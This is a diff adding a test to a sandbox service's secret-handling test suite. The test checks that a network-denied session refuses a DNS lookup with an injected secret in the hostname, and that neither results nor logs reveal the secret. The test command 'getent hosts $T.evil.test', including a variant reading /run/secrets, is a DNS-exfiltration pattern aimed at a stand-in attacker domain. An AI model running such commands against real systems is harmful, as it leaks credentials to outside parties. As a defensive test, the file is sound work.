@@ -5,6 +5,7 @@ one is measured here, since doc/secrets.md says it.
 
     test_execution_secrets.py CORDON [name ...]
 """
+import json
 import os
 import re
 import secrets as random
@@ -55,6 +56,22 @@ def test_a_variable_of_one_execution(server):
     server.delete(other["id"])
     server.delete(session["id"])
     drop(server, "one")
+
+
+def test_a_value_in_a_name_is_covered_in_records(server):
+    """cordon-egress knows the value before the command begins, whatever way the command has it."""
+    text = "tokzq9f2xlmz7tbkw0arvd4u"  # as a part of a name can be
+    server.want(201, "POST", "/v1/secrets", {"name": "looked-up", "value": text, "hosts": ["a.example.org"]})
+    for way, place in (({"as": "env", "env": "T"}, "$T"), ({"as": "file"}, "$(cat /run/secrets/looked-up)")):
+        s = server.create(network="deny")["id"]
+        done = server.run(s, f"getent hosts {place}.evil.test; exit 3", secrets=[{"name": "looked-up", **way}])
+        equal(done["exit_code"], 3)
+        check(done["denied"], "the name was not refused")
+        log = wait_for(lambda: server.want(200, "GET", f"/v1/sessions/{s}/network/log")["records"], 10, "records")
+        for what, shown in (("the execution", done), ("the record", log)):
+            check(text not in json.dumps(shown), f"{what} shows it, given {way}: {shown}")
+        server.delete(s)
+    server.want(204, "DELETE", "/v1/secrets/looked-up")
 
 
 def test_another_secret_comes_inside_a_value(server):
